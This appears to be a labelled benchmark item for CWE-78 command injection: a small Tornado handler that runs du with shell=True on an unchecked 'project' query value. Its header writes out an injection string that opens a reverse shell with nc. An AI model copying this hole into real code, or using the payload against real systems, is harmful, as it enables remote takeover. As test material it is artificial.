# ---
# id: cwe78-tornado-du-v
# cwe: CWE-78
# vulnerable: true
# twin: none
# tags: tornado, subprocess
# explanation: A Tornado handler reports the disk usage of a project directory by running du with shell=True and the project slug from the URL query. The slug is not restricted, so "x; nc -e /bin/sh host 4444" spawns a shell.
# ---
import subprocess

import tornado.ioloop
import tornado.web

PROJECTS_ROOT = "/srv/projects"


class UsageHandler(tornado.web.RequestHandler):
    def get(self):
        project = self.get_query_argument("project")
        try:
            out = subprocess.check_output(
                "du -sh %s/%s" % (PROJECTS_ROOT, project), shell=True, text=True, timeout=60  #@vuln
            )
        except subprocess.CalledProcessError:
            raise tornado.web.HTTPError(404)
        size = out.split()[0] if out else "0"
        self.write({"project": project, "size": size})


def make_app():
    return tornado.web.Application([(r"/usage", UsageHandler)])


if __name__ == "__main__":
    make_app().listen(8890)
    tornado.ioloop.IOLoop.current().start()
